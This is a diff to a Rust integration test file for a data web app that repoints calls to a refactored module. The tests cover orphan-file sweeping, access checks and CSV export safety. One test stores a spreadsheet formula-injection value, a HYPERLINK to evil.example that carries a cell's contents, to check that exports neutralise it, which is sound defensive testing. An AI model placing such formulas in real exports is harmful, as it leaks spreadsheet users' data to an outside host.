@@ -462,17 +462,18 @@ async fn bodies_are_bounded_as_they_stream() {
     let kept = app.upload(&token, &dataset_id, b"a,b\n5,6\n".to_vec(), "usado.csv").await;
     let orphan = app
         .state
+        .app
         .files
         .put_stream(futures_util::stream::iter([Ok::<_, std::io::Error>(bytes::Bytes::from_static(b"huerfano"))]))
         .await
         .unwrap();
-    assert_eq!(datalab_web::catalog::sweep_blobs(&app.state).await.unwrap(), 0, "young blobs stay");
+    assert_eq!(datalab_app::sweeps::sweep_blobs(app.app()).await.unwrap(), 0, "young blobs stay");
     let orphan_path = app.files_dir().join(&orphan.key);
     let old = std::time::SystemTime::now() - Duration::from_secs(2 * 60 * 60);
     std::fs::File::options().write(true).open(&orphan_path).unwrap().set_modified(old).unwrap();
     let used_path = app.stored_blobs().into_iter().find(|path| *path != orphan_path).unwrap();
     std::fs::File::options().write(true).open(&used_path).unwrap().set_modified(old).unwrap();
-    assert_eq!(datalab_web::catalog::sweep_blobs(&app.state).await.unwrap(), 1);
+    assert_eq!(datalab_app::sweeps::sweep_blobs(app.app()).await.unwrap(), 1);
     assert!(!orphan_path.exists() && used_path.exists());
     // Temporary files and unreferenced tables: swept when old, kept when
     // young (another process's upload or analysis in progress).
@@ -487,7 +488,7 @@ async fn bodies_are_bounded_as_they_stream() {
     for path in &leftovers[..2] {
         std::fs::File::options().write(true).open(path).unwrap().set_modified(old).unwrap();
     }
-    assert_eq!(datalab_web::catalog::sweep_leftovers(&app.state).await.unwrap(), 2);
+    assert_eq!(datalab_app::sweeps::sweep_leftovers(app.app()).await.unwrap(), 2);
     assert!(!leftovers[0].exists() && !leftovers[1].exists() && leftovers[2].exists());
     let download = app.client.get(kept["url"].as_str().unwrap()).send().await.unwrap();
     assert_eq!(download.text().await.unwrap(), "a,b\n5,6\n");
@@ -637,7 +638,7 @@ async fn evidence_is_checked_against_the_viewer() {
             added_at: datalab_store::now(),
         });
     }
-    app.state.store.update_milestones(None, &[(before, milestone, String::new())]).await.unwrap();
+    app.store().update_milestones(None, &[(before, milestone, String::new())]).await.unwrap();
     for path in ["/commitment/MXNLE0001/milestone/1", "/commitment/MXNLE0001/report"] {
         let page = app.page(path).await;
         assert!(
@@ -664,14 +665,14 @@ async fn csv_exports_neutralise_formulas() {
     milestone.status = datalab_core::accountability::MilestoneStatus::Stuck;
     milestone.blocker_reason = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")".into();
     milestone.blocker_owner = "@SUM(1+1)".into();
-    app.state.store.update_milestones(None, &[(before, milestone, String::new())]).await.unwrap();
+    app.store().update_milestones(None, &[(before, milestone, String::new())]).await.unwrap();
     let csv = app.page("/commitment/MXNLE0001/milestones.csv").await;
     assert!(csv.contains("'=HYPERLINK"), "{csv}");
     assert!(csv.contains("'@SUM(1+1)"), "{csv}");
     assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "{csv}");
     let (root, _) = app.user("root", true).await;
     let actor = datalab_core::Actor::user(root.id, true, Default::default());
-    let plan = datalab_web::accountability::plan_import(&app.state, &actor, None, &commitment, csv.as_bytes()).await;
+    let plan = datalab_app::accountability::plan_import(app.app(), &actor, None, &commitment, csv.as_bytes()).await;
     assert!(matches!(&plan, Ok(updates) if updates.is_empty()), "re-importing the export changes nothing");
     alive(&app).await;
 }
